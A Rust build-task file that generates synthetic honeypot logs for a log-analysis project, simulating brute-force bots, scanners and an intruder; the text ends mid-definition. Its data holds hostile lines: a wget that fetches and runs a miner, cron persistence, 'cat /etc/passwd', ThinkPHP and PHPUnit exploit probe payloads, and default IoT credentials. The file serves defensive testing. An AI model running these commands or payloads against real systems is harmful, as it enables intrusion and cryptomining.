//! `cargo xtask gen-sample`: writes the synthetic honeypot logs shipped in
//! `examples/`, `decnet-sample.log` (DECNET RFC 5424 syslog) and
//! `cowrie-sample.json` (Cowrie JSON).
//!
//! They are shaped like real honeypot traffic: brute-force bots, a beaconing
//! implant, scanners with tool User-Agents, an interactive intruder who
//! downloads a payload, sniffer fingerprints, bookkeeping events the
//! profiler skips, and a few malformed lines. Every address is from the
//! documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
//! 2001:db8::/32). A fixed seed and a fixed start time make the files the
//! same on every run; `--check` compares instead of writing, so CI can tell
//! when the committed files are stale.

use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use crate::util::root;

/// Entry point for `cargo xtask gen-sample [--check]`.
pub(crate) fn run(args: &[String]) -> Result<(), String> {
    let check = match args {
        [] => false,
        [flag] if flag == "--check" => true,
        _ => return Err(format!("gen-sample takes only --check (got {args:?})")),
    };
    let examples = root().join("examples");
    let files = [
        ("decnet-sample.log", decnet_sample()),
        ("cowrie-sample.json", cowrie_sample()),
    ];
    for (name, bytes) in files {
        let path = examples.join(name);
        if check {
            let current = fs::read(&path).map_err(|err| format!("{}: {err}", path.display()))?;
            if current != bytes {
                return Err(format!(
                    "{} is stale: run `cargo xtask gen-sample`",
                    path.display()
                ));
            }
        } else {
            write(&path, &bytes)?;
        }
    }
    Ok(())
}

fn write(path: &Path, bytes: &[u8]) -> Result<(), String> {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir).map_err(|err| format!("{}: {err}", dir.display()))?;
    }
    fs::write(path, bytes).map_err(|err| format!("{}: {err}", path.display()))?;
    eprintln!("wrote {} ({} bytes)", path.display(), bytes.len());
    Ok(())
}

// ---------------------------------------------------------------------------
// Determinism: a seeded generator and a fixed clock.

/// SplitMix64: tiny, fast, and the same sequence everywhere.
pub(crate) struct Rng(pub(crate) u64);

impl Rng {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in [0, 1).
    pub(crate) fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// Uniform in [low, high).
    pub(crate) fn between(&mut self, low: f64, high: f64) -> f64 {
        low + (high - low) * self.unit()
    }

    /// Uniform in 0..len (len > 0).
    pub(crate) fn index(&mut self, len: usize) -> usize {
        (self.next() % len as u64) as usize
    }

    pub(crate) fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.index(items.len())]
    }

    /// An ephemeral source port.
    pub(crate) fn port(&mut self) -> u64 {
        32768 + self.next() % 28000
    }

    /// `len` lowercase hex digits.
    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b"0123456789abcdef"[self.index(16)]))
            .collect()
    }
}

/// 2026-03-02T08:00:00Z, the start of both samples, in µs since the epoch.
const START_US: i64 = 1_772_438_400 * 1_000_000;

/// µs since the epoch of `seconds` after the start.
pub(crate) fn at(seconds: f64) -> i64 {
    START_US + (seconds * 1e6).round() as i64
}

/// `YYYY-MM-DDTHH:MM:SS` and the microseconds of an instant (UTC).
fn civil(micros: i64) -> (String, i64) {
    let seconds = micros.div_euclid(1_000_000);
    let (days, of_day) = (seconds.div_euclid(86_400), seconds.rem_euclid(86_400));
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    let text = format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}",
        of_day / 3600,
        of_day % 3600 / 60,
        of_day % 60
    );
    (text, micros.rem_euclid(1_000_000))
}

/// As Python's `datetime.isoformat()` writes an aware UTC time, the way
/// DECNET's syslog formatter does (no fraction when it is zero).
fn iso_decnet(micros: i64) -> String {
    match civil(micros) {
        (text, 0) => format!("{text}+00:00"),
        (text, fraction) => format!("{text}.{fraction:06}+00:00"),
    }
}

/// As Cowrie writes timestamps: six fraction digits and `Z`.
fn iso_cowrie(micros: i64) -> String {
    let (text, fraction) = civil(micros);
    format!("{text}.{fraction:06}Z")
}

/// A log being assembled; lines are sorted by time (then by insertion) when
/// rendered, as a collector writes them.
#[derive(Default)]
pub(crate) struct Log {
    lines: Vec<(i64, Vec<u8>)>,
}

impl Log {
    pub(crate) fn push(&mut self, micros: i64, line: impl Into<Vec<u8>>) {
        self.lines.push((micros, line.into()));
    }

    /// The lines with their instants, in time order (then in insertion
    /// order).
    pub(crate) fn into_sorted(mut self) -> Vec<(i64, Vec<u8>)> {
        self.lines.sort_by_key(|(micros, _)| *micros);
        self.lines
    }

    fn render(self) -> Vec<u8> {
        let mut out = Vec::new();
        for (_, line) in self.into_sorted() {
            out.extend_from_slice(&line);
            out.push(b'\n');
        }
        out
    }
}

// ---------------------------------------------------------------------------
// DECNET syslog.

const SSH_DECKY: &str = "decky-ssh01";
pub(crate) const WEB_DECKY: &str = "decky-web01";
pub(crate) const SEVERITY_INFO: u8 = 6;
const SEVERITY_WARNING: u8 = 4;

/// One DECNET line: `<PRI>1 TIMESTAMP HOST APP - MSGID SD [MSG]`, PRI from
/// facility local0, SD values escaped as RFC 5424 requires.
pub(crate) fn syslog(
    micros: i64,
    severity: u8,
    decky: &str,
    service: &str,
    msgid: &str,
    fields: &[(&str, String)],
    message: Option<&str>,
) -> String {
    let mut line = format!(
        "<{}>1 {} {decky} {service} - {msgid} ",
        16 * 8 + severity,
        iso_decnet(micros)
    );
    if fields.is_empty() {
        line.push('-');
    } else {
        line.push_str("[relay@55555");
        for (name, value) in fields {
            let escaped = value
                .replace('\\', "\\\\")
                .replace('"', "\\\"")
                .replace(']', "\\]");
            let _ = write!(line, " {name}=\"{escaped}\"");
        }
        line.push(']');
    }
    if let Some(message) = message {
        line.push(' ');
        line.push_str(message);
    }
    line
}

/// A field list from name/value pairs.
pub(crate) fn fields<const N: usize>(
    pairs: [(&'static str, &str); N],
) -> Vec<(&'static str, String)> {
    pairs
        .into_iter()
        .map(|(name, value)| (name, value.to_owned()))
        .collect()
}

const USERNAMES: &[&str] = &[
    "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "support",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "1qaz2wsx",
    "P@ssw0rd",
    "raspberry",
    "changeme",
    "toor",
    "admin123",
];

/// The DECNET sample.
fn decnet_sample() -> Vec<u8> {
    let mut rng = Rng(0xdec0_5eed);
    let mut log = Log::default();
    ssh_brute_force(&mut log, &mut rng, "203.0.113.14", 30.0, 60, 1.8);
    telnet_brute_force(&mut log, &mut rng, "198.51.100.201", 400.0, 40);
    sshd_brute_force(&mut log, &mut rng, "203.0.113.77", 1200.0, 30);
    ssh_brute_force(&mut log, &mut rng, "2001:db8::6a", 2100.0, 12, 4.0);
    beacon(&mut log, &mut rng, "198.51.100.23", 5.0, 45);
    web_scanner(&mut log, &mut rng, "203.0.113.50", 600.0);
    syn_scanner(&mut log, &mut rng, "203.0.113.99", 1500.0);
    exploit_prober(&mut log, &mut rng, "198.51.100.150", 1900.0);
    intruder(&mut log, &mut rng, "198.51.100.77", 900.0);
    housekeeping(&mut log);
    malformed_decnet(&mut log);
    log.render()
}

/// A bot on the SSH decky: one connection, then a steady stream of
/// password guesses.
pub(crate) fn ssh_brute_force(
    log: &mut Log,
    rng: &mut Rng,
    ip: &str,
    start: f64,
    attempts: usize,
    gap: f64,
) {
    let port = rng.port().to_string();
    let mut t = start;
    connection(log, t, SSH_DECKY, "ssh", ip, &port, "22");
    for _ in 0..attempts {
        t += gap * rng.between(0.8, 1.2);
        let user = *rng.pick(USERNAMES);
        let password = *rng.pick(PASSWORDS);
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_WARNING,
                SSH_DECKY,
                "ssh",
                "login_attempt",
                &fields([
                    ("src_ip", ip),
                    ("src_port", &port),
                    ("username", user),
                    ("password", password),
                    ("success", "false"),
                ]),
                None,
            ),
        );
    }
}

/// A Mirai-style bot on a Telnet decky, trying default device credentials.
pub(crate) fn telnet_brute_force(
    log: &mut Log,
    rng: &mut Rng,
    ip: &str,
    start: f64,
    attempts: usize,
) {
    const CREDENTIALS: &[(&str, &str)] = &[
        ("admin", "admin"),
        ("root", "xc3511"),
        ("root", "vizxv"),
        ("admin", "juantech"),
        ("root", "xmhdipc"),
        ("support", "support"),
        ("root", "default"),
        ("guest", "12345"),
    ];
    let mut t = start;
    for _ in 0..attempts {
        t += 3.0 * rng.between(0.75, 1.25);
        let (user, password) = *rng.pick(CREDENTIALS);
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_WARNING,
                "decky-iot01",
                "telnet",
                "login_attempt",
                &fields([
                    ("src_ip", ip),
                    ("username", user),
                    ("password", password),
                    ("success", "false"),
                ]),
                None,
            ),
        );
    }
}

/// A bot seen through a decky's own sshd, whose lines carry no structured
/// data: the attacker's address is read from the message.
pub(crate) fn sshd_brute_force(
    log: &mut Log,
    rng: &mut Rng,
    ip: &str,
    start: f64,
    attempts: usize,
) {
    let mut t = start;
    for _ in 0..attempts {
        t += 2.5 * rng.between(0.8, 1.2);
        let message = format!(
            "Failed password for invalid user {} from {ip} port {} ssh2",
            rng.pick(USERNAMES),
            rng.port()
        );
        let line = syslog(
            at(t),
            SEVERITY_WARNING,
            "decky-ssh02",
            "sshd",
            "-",
            &[],
            Some(&message),
        );
        log.push(at(t), line);
    }
}

/// An implant calling home over HTTP about every 60 s with about 20 %
/// jitter, the cadence of a default Cobalt Strike beacon.
pub(crate) fn beacon(log: &mut Log, rng: &mut Rng, ip: &str, start: f64, check_ins: usize) {
    let headers = r#"{"Host": "cdn.example.net", "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko", "Accept": "*/*", "Cookie": "SESSIONID=ZXhhbXBsZQ=="}"#;
    let mut t = start;
    for _ in 0..check_ins {
        let port = rng.port().to_string();
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_INFO,
                WEB_DECKY,
                "http",
                "request",
                &fields([
                    ("method", "GET"),
                    ("path", "/jquery-3.3.1.min.js"),
                    ("remote_addr", ip),
                    ("src_port", &port),
                    ("headers", headers),
                    ("body", ""),
                ]),
                None,
            ),
        );
        t += 60.0 * rng.between(0.66, 1.34);
    }
}

/// A scanner sweeping the decoys' services, then probing the web decky
/// with several tools' User-Agents.
pub(crate) fn web_scanner(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    const SERVICES: &[(&str, &str, &str)] = &[
        ("decky-ftp01", "ftp", "21"),
        (SSH_DECKY, "ssh", "22"),
        ("decky-iot01", "telnet", "23"),
        ("decky-mail01", "smtp", "25"),
        (WEB_DECKY, "http", "80"),
        ("decky-smb01", "smb", "445"),
        ("decky-db01", "mysql", "3306"),
        ("decky-rdp01", "rdp", "3389"),
        ("decky-db01", "redis", "6379"),
    ];
    const PROBES: &[(&str, &str)] = &[
        (
            "/",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ),
        (
            "/nmaplowercheck1772441234",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ),
        (
            "/.env",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        ),
        (
            "/wp-login.php",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000121)",
        ),
        (
            "/cgi-bin/luci",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003115)",
        ),
        ("/", "Mozilla/5.0 zgrab/0.x"),
        ("/.git/config", "curl/8.5.0"),
        ("/server-status", "curl/8.5.0"),
    ];
    let mut t = start;
    syn_fingerprint(
        log,
        rng,
        ip,
        t - 0.01,
        SSH_DECKY,
        "22",
        Stack::Linux { ttl: 54 },
    );
    for (decky, service, port) in SERVICES {
        t += rng.between(0.3, 1.5);
        let source_port = rng.port().to_string();
        connection(log, t, decky, service, ip, &source_port, port);
    }
    for (path, user_agent) in PROBES {
        t += rng.between(0.2, 2.0);
        let headers = format!(
            r#"{{"Host": "10.20.0.15", "User-Agent": "{user_agent}", "Accept": "*/*", "Connection": "close"}}"#
        );
        let source_port = rng.port().to_string();
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_INFO,
                WEB_DECKY,
                "http",
                "request",
                &fields([
                    ("method", "GET"),
                    ("path", path),
                    ("remote_addr", ip),
                    ("src_port", &source_port),
                    ("headers", &headers),
                    ("body", ""),
                ]),
                None,
            ),
        );
    }
    // DECNET's prober answers a scan by fingerprinting the scanner's own
    // SSH server.
    t += 4.0;
    log.push(
        at(t),
        syslog(
            at(t),
            SEVERITY_INFO,
            SSH_DECKY,
            "prober",
            "hassh_fingerprint",
            &fields([
                ("target_ip", ip),
                ("target_port", "22"),
                ("hassh_server_hash", "b12d2871a1189eff20364cf5333619ee"),
                ("ssh_banner", "SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u3"),
                (
                    "kex_algorithms",
                    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,\
                     ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,\
                     diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,\
                     diffie-hellman-group14-sha256",
                ),
                ("encryption_s2c", "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com"),
                ("mac_s2c", "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1"),
                ("compression_s2c", "none,zlib@openssh.com"),
            ]),
            None,
        ),
    );
}

/// A SYN scanner whose packets the sniffer recognises as nmap's, with one
/// masscan banner grab on the web decky.
pub(crate) fn syn_scanner(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    const PORTS: &[(&str, &str, &str)] = &[
        (SSH_DECKY, "ssh", "22"),
        (WEB_DECKY, "http", "80"),
        ("decky-smb01", "smb", "445"),
        ("decky-db01", "mysql", "3306"),
        ("decky-rdp01", "rdp", "3389"),
        ("decky-db01", "redis", "6379"),
    ];
    let mut t = start;
    for (decky, service, port) in PORTS {
        t += rng.between(0.05, 0.4);
        syn_fingerprint(log, rng, ip, t, decky, port, Stack::Nmap);
        t += rng.between(0.01, 0.05);
        let source_port = rng.port().to_string();
        connection(log, t, decky, service, ip, &source_port, port);
    }
    t += 1.2;
    let headers = r#"{"User-Agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Accept": "*/*"}"#;
    let source_port = rng.port().to_string();
    log.push(
        at(t),
        syslog(
            at(t),
            SEVERITY_INFO,
            WEB_DECKY,
            "http",
            "request",
            &fields([
                ("method", "GET"),
                ("path", "/"),
                ("remote_addr", ip),
                ("src_port", &source_port),
                ("headers", headers),
                ("body", ""),
            ]),
            None,
        ),
    );
}

/// A one-shot exploit script: a few POSTs with python-requests' default
/// User-Agent.
pub(crate) fn exploit_prober(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    const TARGETS: &[(&str, &str)] = &[
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "<?php echo md5(\"phpunit\"); ?>",
        ),
        (
            "/index.php?s=/Index/\\think\\app/invokefunction",
            "function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
        ),
        ("/boaform/admin/formLogin", "username=admin&psd=Feefifofum"),
    ];
    let mut t = start;
    for (path, body) in TARGETS {
        t += rng.between(0.3, 0.9);
        let source_port = rng.port().to_string();
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_INFO,
                WEB_DECKY,
                "http",
                "request",
                &fields([
                    ("method", "POST"),
                    ("path", path),
                    ("remote_addr", ip),
                    ("src_port", &source_port),
                    (
                        "headers",
                        r#"{"Host": "10.20.0.15", "User-Agent": "python-requests/2.31.0", "Accept-Encoding": "gzip, deflate", "Accept": "*/*", "Connection": "keep-alive", "Content-Type": "application/x-www-form-urlencoded"}"#,
                    ),
                    ("body", body),
                ]),
                None,
            ),
        );
    }
}

/// A person at a keyboard: guesses a password, looks around with irregular
/// pauses, downloads a 2.25 MiB payload and runs it.
pub(crate) fn intruder(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    const COMMANDS: &[&str] = &[
        "uname -a",
        "id",
        "w",
        "cat /proc/cpuinfo | grep name | wc -l",
        "free -m",
        "ls -la /tmp",
        "cat /etc/passwd",
        "ps aux | grep [m]iner",
        "crontab -l",
        "cd /tmp",
        "wget http://203.0.113.200/bins/x86_64 -O .x",
        "chmod +x .x",
        "./.x -o pool.example.org:443 --donate-level 1",
        "echo \"* * * * * /tmp/.x >/dev/null 2>&1\" | crontab -",
        "if [ -f /tmp/.x ]; then echo ok; fi",
        "history -c",
        "exit",
    ];
    let port = rng.port().to_string();
    let mut t = start;
    syn_fingerprint(
        log,
        rng,
        ip,
        t - 0.012,
        SSH_DECKY,
        "22",
        Stack::Linux { ttl: 52 },
    );
    connection(log, t, SSH_DECKY, "ssh", ip, &port, "22");
    t += 0.21;
    log.push(
        at(t),
        syslog(
            at(t),
            SEVERITY_INFO,
            SSH_DECKY,
            "sniffer",
            "ssh_client_banner",
            &fields([
                ("src_ip", ip),
                ("src_port", &port),
                ("dst_ip", "10.20.0.11"),
                ("dst_port", "22"),
                ("ssh_version", "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5"),
            ]),
            None,
        ),
    );
    for (password, success) in [("root", "false"), ("123456", "false"), ("toor", "true")] {
        t += rng.between(2.5, 6.0);
        log.push(
            at(t),
            syslog(
                at(t),
                SEVERITY_WARNING,
                SSH_DECKY,
                "ssh",
                "login_attempt",
                &fields([
                    ("src_ip", ip),
                    ("src_port", &port),
                    ("username", "root"),
                    ("password", password),
                    ("success", success),
                ]),
                None,
            ),
        );
    }
    for command in COMMANDS {
        // Think time: mostly quick, now and then a long pause.
        t += 0.6 + 14.0 * rng.unit().powi(3);
        let pwd = if t > start + 40.0 { "/tmp" } else { "/root" };
        // The decky's shell logs each command line as `CMD key=value …
        // cmd=<line>` with no structured data.
        let message = format!("CMD uid=0 user=root src={ip} pwd={pwd} cmd={command}");
        let line = syslog(
            at(t),
            SEVERITY_INFO,
            SSH_DECKY,
            "ssh",
            "command",
            &[],
            Some(&message),
        );
        log.push(at(t), line);
        if command.starts_with("wget") {
            t += rng.between(1.5, 3.0);
            log.push(
                at(t),
                syslog(
                    at(t),
                    SEVERITY_WARNING,
                    SSH_DECKY,
                    "ssh",
                    "download",
                    &fields([
                        ("src_ip", ip),
                        ("url", "http://203.0.113.200/bins/x86_64"),
                        ("path", "/tmp/.x"),
                        ("bytes", "2359296"),
                        ("sha256", &rng.hex(64)),
                    ]),
                    None,
                ),
            );
        }
    }
    t += rng.between(0.5, 1.0);
    log.push(
        at(t),
        syslog(
            at(t),
            SEVERITY_INFO,
            SSH_DECKY,
            "sniffer",
            "tcp_flow_timing",
            &fields([
                ("src_ip", ip),
                ("src_port", &port),
                ("dst_ip", "10.20.0.11"),
                ("dst_port", "22"),
                ("packets", "412"),
                ("bytes", "58120"),
                ("duration_s", &format!("{:.3}", t - start)),
                ("retransmits", "3"),
            ]),
            None,
        ),
    );
}

/// The TCP/IP stack a sniffed SYN comes from.
#[derive(Clone, Copy)]
enum Stack {
    Linux { ttl: u8 },
    Nmap,
}

/// A `tcp_syn_fingerprint` from the passive sniffer.
fn syn_fingerprint(
    log: &mut Log,
    rng: &mut Rng,
    ip: &str,
    seconds: f64,
    decky: &str,
    port: &str,
    stack: Stack,
) {
    let (ttl, window, wscale, options, sack, timestamps, os) = match stack {
        Stack::Linux { ttl } => (ttl, "64240", "7", "M,S,T,N,W", "true", "true", "linux"),
        Stack::Nmap => (49, "1024", "10", "M,W,T,S,S", "true", "true", "nmap"),
    };
    let source_port = rng.port().to_string();
    let ttl_text = ttl.to_string();
    let hops = (64 - ttl).to_string();
    log.push(
        at(seconds),
        syslog(
            at(seconds),
            SEVERITY_INFO,
            decky,
            "sniffer",
            "tcp_syn_fingerprint",
            &fields([
                ("src_ip", ip),
                ("src_port", &source_port),
                ("dst_ip", "10.20.0.11"),
                ("dst_port", port),
                ("ttl", &ttl_text),
                ("initial_ttl", "64"),
                ("hop_distance", &hops),
                ("window", window),
                ("mss", "1460"),
                ("wscale", wscale),
                ("options_sig", options),
                ("has_sack", sack),
                ("has_timestamps", timestamps),
                ("tos", "0"),
                ("dscp", "0"),
                ("ecn", "0"),
                ("ipid_class", "random"),
                ("ipid_samples", "1"),
                ("isn_class", "random"),
                ("isn_samples", "1"),
                ("os_guess", os),
            ]),
            None,
        ),
    );
}

/// Lines every DECNET log has that are no attacker's doing: service
/// start-up (no attacker address) and decky mutations.
fn housekeeping(log: &mut Log) {
    for (seconds, decky, service, port) in [
        (0.0, SSH_DECKY, "ssh", "22"),
        (0.4, WEB_DECKY, "http", "80"),
        (0.9, "decky-iot01", "telnet", "23"),
    ] {
        let message = format!("{service} server starting as {decky} on port {port}");
        let line = syslog(
            at(seconds),
            SEVERITY_INFO,
            decky,
            service,
            "startup",
            &[],
            Some(&message),
        );
        log.push(at(seconds), line);
    }
    for (seconds, from, to) in [
        (1800.0, "web-nginx", "web-iis"),
        (3000.0, "web-iis", "web-apache"),
    ] {
        log.push(at(seconds), mutation(at(seconds), from, to));
    }
}

/// A `connection` event of `ip` from `source_port` to `port` at `t`.
fn connection(
    log: &mut Log,
    t: f64,
    decky: &str,
    service: &str,
    ip: &str,
    source_port: &str,
    port: &str,
) {
    let line = syslog(
        at(t),
        SEVERITY_INFO,
        decky,
        service,
        "connection",
        &fields([
            ("src_ip", ip),
            ("src_port", source_port),
            ("dst_port", port),
        ]),
        None,
    );
    log.push(at(t), line);
}

/// The mutator turning the web decky from one archetype into another at
/// `micros`: a line that is no attacker's.
pub(crate) fn mutation(micros: i64, from: &str, to: &str) -> String {
    syslog(
        micros,
        SEVERITY_INFO,
        WEB_DECKY,
        "mutator",
        "decky_mutated",
        &fields([
            ("decky", WEB_DECKY),
            ("from_archetype", from),
            ("to_archetype", to),
        ]),
        None,
    )
}

/// Lines a real collector lets through now and then, each rejected for a
/// different reason.
fn malformed_decnet(log: &mut Log) {
    let mut invalid_utf8 = syslog(
        at(930.0),
        SEVERITY_INFO,
        SSH_DECKY,
        "ssh",
        "command",
        &fields([("src_ip", "198.51.100.77"), ("command", "printf 'XX'")]),
        None,
    )
    .into_bytes();
    // Replace the two X with bytes that are not UTF-8 (raw terminal input).
    for byte in invalid_utf8
        .iter_mut()
        .rev()
        .filter(|b| **b == b'X')
        .take(2)
    {
        *byte = 0xff;
    }
    log.push(at(930.0), invalid_utf8);
    log.push(
        at(1250.0),
        "<132>1 2026-03-02T08:20:61+00:00 decky-ssh02 sshd - - - Failed password for root from 203.0.113.77 port 40022 ssh2",
    );
    log.push(
        at(1400.0),
        "<134>1 2026-03-02T08:23:20+00:00 decky-web01 http",
    );
    log.push(
        at(1700.0),
        "Mar  2 08:28:20 decky-ssh01 kernel: [88112.120041] IN=eth0 OUT= SRC=203.0.113.99 DST=10.20.0.11 PROTO=TCP DPT=23",
    );
    log.push(
        at(2500.0),
        "<134>1 2026-03-02T08:41:40+00:00 - ssh - connection [relay@55555 src_ip=\"203.0.113.14\"]",
    );
    log.push(at(2600.0), "");
}

// ---------------------------------------------------------------------------
// Cowrie JSON.

const SENSOR: &str = "cowrie-hp01";
const HONEYPOT_IP: &str = "10.0.0.5";

/// A JSON string literal.
fn json_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A JSON value for a Cowrie key.
enum Value<'a> {
    Text(&'a str),
    Owned(String),
    Int(u64),
    Float(f64),
    Bool(bool),
    List(&'a [&'a str]),
}

impl Value<'_> {
    fn to_json(&self) -> String {
        match self {
            Value::Text(text) => json_string(text),
            Value::Owned(text) => json_string(text),
            Value::Int(number) => number.to_string(),
            Value::Float(number) => format!("{number:?}"),
            Value::Bool(flag) => flag.to_string(),
            Value::List(items) => {
                let items: Vec<String> = items.iter().map(|item| json_string(item)).collect();
                format!("[{}]", items.join(","))
            }
        }
    }
}

/// One Cowrie session, writing events in Cowrie 2.x's key order.
struct Session<'a> {
    ip: &'a str,
    id: String,
}

impl<'a> Session<'a> {
    fn new(rng: &mut Rng, ip: &'a str) -> Session<'a> {
        Session {
            ip,
            id: rng.hex(12),
        }
    }

    /// An event: `eventid`, its own keys, then `message`, `sensor`,
    /// `timestamp`, `src_ip` and `session`, as Cowrie writes them.
    fn event(
        &self,
        log: &mut Log,
        seconds: f64,
        eventid: &str,
        keys: &[(&str, Value<'_>)],
        message: &str,
    ) {
        let mut line = format!("{{\"eventid\":{}", json_string(eventid));
        for (name, value) in keys {
            let _ = write!(line, ",{}:{}", json_string(name), value.to_json());
        }
        let _ = write!(
            line,
            ",\"message\":{},\"sensor\":{},\"timestamp\":{},\"src_ip\":{},\"session\":{}}}",
            json_string(message),
            json_string(SENSOR),
            json_string(&iso_cowrie(at(seconds))),
            json_string(self.ip),
            json_string(&self.id),
        );
        log.push(at(seconds), line);
    }

    fn connect(&self, log: &mut Log, rng: &mut Rng, seconds: f64, protocol: &str) {
        let port = rng.port();
        let dst_port = if protocol == "ssh" { 2222 } else { 2223 };
        // session.connect writes src_ip and session among its own keys.
        let line = format!(
            "{{\"eventid\":\"cowrie.session.connect\",\"src_ip\":{},\"src_port\":{port},\"dst_ip\":{},\"dst_port\":{dst_port},\"session\":{},\"protocol\":{},\"message\":{},\"sensor\":{},\"timestamp\":{}}}",
            json_string(self.ip),
            json_string(HONEYPOT_IP),
            json_string(&self.id),
            json_string(protocol),
            json_string(&format!(
                "New connection: {}:{port} ({HONEYPOT_IP}:{dst_port}) [session: {}]",
                self.ip, self.id
            )),
            json_string(SENSOR),
            json_string(&iso_cowrie(at(seconds))),
        );
        log.push(at(seconds), line);
    }

    fn version(&self, log: &mut Log, seconds: f64, version: &str) {
        self.event(
            log,
            seconds,
            "cowrie.client.version",
            &[("version", Value::Text(version))],
            &format!("Remote SSH version: {version}"),
        );
    }

    fn kex(&self, log: &mut Log, seconds: f64, client: &Client) {
        let algorithms = format!(
            "{};{};{};{}",
            client.kex.join(","),
            client.enc.join(","),
            client.mac.join(","),
            client.comp.join(",")
        );
        self.event(
            log,
            seconds,
            "cowrie.client.kex",
            &[
                ("hassh", Value::Text(client.hassh)),
                ("hasshAlgorithms", Value::Owned(algorithms)),
                ("kexAlgs", Value::List(client.kex)),
                ("keyAlgs", Value::List(client.key)),
                ("encCS", Value::List(client.enc)),
                ("macCS", Value::List(client.mac)),
                ("compCS", Value::List(client.comp)),
                ("langCS", Value::List(&[""])),
            ],
            &format!("SSH client hassh fingerprint: {}", client.hassh),
        );
    }

    fn login(&self, log: &mut Log, seconds: f64, user: &str, password: &str, success: bool) {
        let (eventid, outcome) = if success {
            ("cowrie.login.success", "succeeded")
        } else {
            ("cowrie.login.failed", "failed")
        };
        self.event(
            log,
            seconds,
            eventid,
            &[
                ("username", Value::Text(user)),
                ("password", Value::Text(password)),
            ],
            &format!("login attempt [{user}/{password}] {outcome}"),
        );
    }

    fn command(&self, log: &mut Log, seconds: f64, input: &str) {
        self.event(
            log,
            seconds,
            "cowrie.command.input",
            &[("input", Value::Text(input))],
            &format!("CMD: {input}"),
        );
    }

    fn closed(&self, log: &mut Log, seconds: f64, duration: f64) {
        self.event(
            log,
            seconds,
            "cowrie.session.closed",
            &[("duration", Value::Float(duration))],
            &format!("Connection lost after {} seconds", duration.round()),
        );
    }
}

/// An SSH client's key-exchange offer.
struct Client {
    hassh: &'static str,
    kex: &'static [&'static str],
    key: &'static [&'static str],
    enc: &'static [&'static str],
    mac: &'static [&'static str],
    comp: &'static [&'static str],
}

const LIBSSH_063: Client = Client {
    hassh: "51cba57125523ce4b9db67714a90bf6e",
    kex: &[
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "diffie-hellman-group14-sha1",
        "diffie-hellman-group1-sha1",
    ],
    key: &["ecdsa-sha2-nistp256", "ssh-rsa", "ssh-dss"],
    enc: &[
        "aes256-ctr",
        "aes192-ctr",
        "aes128-ctr",
        "aes256-cbc",
        "aes192-cbc",
        "aes128-cbc",
        "blowfish-cbc",
        "3des-cbc",
        "des-cbc-ssh1",
    ],
    mac: &["hmac-sha1"],
    comp: &["none"],
};

const OPENSSH_96: Client = Client {
    hassh: "aae6b9604f6f3356543709a376d7f657",
    kex: &[
        "sntrup761x25519-sha512@openssh.com",
        "curve25519-sha256",
